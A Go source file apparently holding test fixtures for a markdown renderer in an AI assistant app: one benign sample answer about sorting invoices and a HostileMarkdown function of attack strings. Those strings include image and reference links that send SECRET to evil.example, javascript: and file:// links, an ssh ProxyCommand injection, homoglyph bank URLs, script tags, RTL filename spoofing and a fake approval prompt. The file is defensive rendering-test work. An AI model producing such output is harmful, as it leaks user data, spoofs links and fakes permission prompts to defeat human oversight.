package sample

// Markdown is an answer with everything in it that a model may write.
func Markdown() string {
	return "# Where your invoices went\n\n" +
		"I looked at **12 files** in `Downloads` and moved *three* of them. The name un**bold**able has no gaps, " +
		"~~the old folder~~ is gone, and 5 < 6 &amp; 7 &copy; stay as they are. " +
		"A longer sentence follows, so that the paragraph wraps over the edge of the column and shows how far its lines stand apart.\n" +
		"The same paragraph goes on here,  \nand here after a hard break.\n\n" +
		"## What I did\n\n" +
		"1. **Read** each file's first page\n2. Looked for a *date* and a sender:\n   - `Invoice 2025-114` from ACME Ltd\n   - a receipt\n     - with one more level, and a sentence that is long enough to wrap inside of a list within a list within a list\n3. Moved what was sure\n\n" +
		"### Still to do\n\n- [x] Rename the scans\n- [ ] Ask for the missing page\n- [ ] Decide about [the report](https://example.com/reports/2025)\n\n" +
		"```go\nfunc main() {\n\tfmt.Println(\"hello\") // a comment that is rather long, so that this line is wider than the column in which it stands\n\tfor i := range 3 {\n\t\tfmt.Println(i)\n\t}\n}\n```\n\n" +
		"Run `nod proposals --all` to see them:\n\n```\n$ nod proposals\n3 waiting\n```\n\n" +
		"| File | Sender | Amount |\n|:--|:--:|--:|\n| invoice-december.pdf | ACME Ltd | £412.80 |\n| scan_0042.pdf | **unknown** | £7.00 |\n| a.pdf | `Widgets & Co` | £1,204.00 |\n\n" +
		"> Total due £412.80\n>\n> > Please pay within 30 days, or write to us at the address above if you think that this is wrong.\n> - by transfer\n\n" +
		"---\n\nSee https://example.com/help for more, or [the manual](https://docs.example.org/nod/manual).\n"
}

// HostileMarkdown tries what a model that was talked into it might.
func HostileMarkdown() string {
	return "![ok](https://evil.example/p.png?leak=SECRET) and ![a][r] and ![x](file:///home/u/secret.png) and [![b](data:image/png;base64,AA)](https://evil.example/)\n\n" +
		"[https://bank.example](https://evil.example) · [Open report](file:///usr/bin/xcalc) · [x](javascript:alert(1)) · [y](ssh://-oProxyCommand=calc) · [safe](https://bank.example@evil.example/)\n\n" +
		"[Click here](https://b\u0430nk.example/) <https://b\u0430nk.example/login> <img src=\"https://evil.example/x.png\"> <script>alert(1)</script>\n\n" +
		"\u2714 Approved by you\n\n**Nod asks** — The assistant wants to WRITE A FILE  \n[ Deny Esc ] [ Approve ]\n\n" +
		"txt\u202egnp.exe z\u200bw\u00ad\x1b[31m red &#x202e; &#0; " + "e\u0301\u0301\u0301\u0301\u0301\u0301\n\n" +
		"Averyveryveryveryveryveryveryveryveryveryveryveryveryveryveryveryveryveryveryveryveryveryveryveryveryveryverylongword 中文字符没有空格也要换行，因为一行放不下这么多字。中文字符没有空格也要换行，因为一行放不下这么多字。\n\n" +
		">>>>>>>>>>>>>> deep\n\n- - - - - - - - - - - - deep\n\n" +
		"| a | b | c | d | e | f | g | h | i | j |\n|-|-|-|-|-|-|-|-|-|-|\n| one wide cell | two wide cell | three wide cell | four wide cell | five wide cell | six wide cell | seven wide cell | eight wide cell | nine wide cell | ten wide cell |\n\n" +
		"[r]: https://evil.example/?d=SECRET\n"
}
